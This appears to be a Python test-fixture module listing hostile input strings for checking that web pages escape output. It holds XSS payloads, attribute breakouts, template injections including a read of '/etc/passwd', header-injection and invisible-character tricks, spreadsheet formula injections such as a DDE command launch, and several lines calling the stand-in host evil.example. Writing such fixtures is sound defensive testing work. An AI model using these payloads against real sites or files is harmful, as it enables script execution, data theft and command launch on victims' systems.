"""Strings that break careless pages: markup, attributes, addresses, templates, invisible text."""

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div data-chart-for=trend data-chart='{'>x</div>",
    "<b hx-on:click=alert(1)>x</b>",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onload=alert(1) `",
    'x" style="background:url(//evil.example)',
)
ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "../../sign-out?x=",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "a/b?c=d#e&f=%00",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "%(name)s %s %d",
    "{a|xss|b}",
)
INVISIBLE = (
    "\u202egpj.exe\u202c",
    "null\x00byte",
    "\x1b[31mred\x1b]0;title\x07",
    "line\nbreak\r\nSet-Cookie: a=b",
    "zero\u200bwidth\ufeff",
    "\u0301" * 60,
    "\u2028\u2029",
)
ATTACKS = MARKUP + ATTRIBUTES + ADDRESSES + TEMPLATES + INVISIBLE

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "|calc",
    "%0A=1+1",
    '";=1+1',
    "\x00=1+1",
)
